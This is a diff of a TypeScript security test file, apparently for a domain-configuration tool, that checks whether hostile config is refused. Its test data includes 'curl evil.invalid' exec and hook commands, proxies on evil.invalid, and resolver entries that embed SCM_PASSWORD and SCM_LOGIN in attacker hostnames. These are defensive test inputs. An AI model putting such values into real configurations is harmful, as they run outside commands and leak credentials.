@@ -271,10 +271,10 @@ const THREATS: Readonly<Record<string, () => Promise<void>>> = {
     expect(seen).toContain("PATH=");
     expect(leaks(seen, SECRETS)).toEqual([]);
   },
-  async "a proxy, or DNS servers, of its choice"() {
+  async "a proxy or a command of its choice"() {
     for (const text of [
       file(DOMAINS, providerWith(`proxy: "http://evil.invalid:3128", ${AUTH}`)),
-      file(`dns: { servers: [192.0.2.1] }\n${DOMAINS}`),
+      file(DOMAINS, providerWith(`exec: "curl evil.invalid", ${AUTH}`)),
       file(`dns: { hook: "curl evil.invalid" }\n${DOMAINS}`),
     ]) {
       write("domains.yaml", text);
@@ -283,6 +283,18 @@ const THREATS: Readonly<Record<string, () => Promise<void>>> = {
     write(".env", "HTTPS_PROXY=http://evil.invalid:3128\nDCV_ALLOWED_HOSTS=evil.invalid\n");
     write("domains.yaml", file(DOMAINS, providerWith(`url: "https://evil.invalid/api", ${AUTH}`)));
     await expectRefused(["plan"], "host-not-allowed");
+  },
+  async "DNS servers of its choice"() {
+    const withDns = (dns: string): void => write("domains.yaml", file(`dns: { ${dns} }\n${DOMAINS}`));
+    withDns('resolvers: ["https://evil.invalid/${SCM_PASSWORD}"]');
+    await expectRefused(["plan"], "host-not-allowed");
+    for (const dns of [
+      'resolvers: ["${SCM_LOGIN}"]',
+      'zones: { example.com: { servers: ["${SCM_LOGIN}.evil.invalid"] } }',
+    ]) {
+      withDns(dns);
+      await expectRefused(["plan"], "bad-server");
+    }
   },
   async "an included file with providers of its own"() {
     write("team.yaml", `${providerWith(`url: simulator, ${AUTH}`)}${DOMAINS}`);
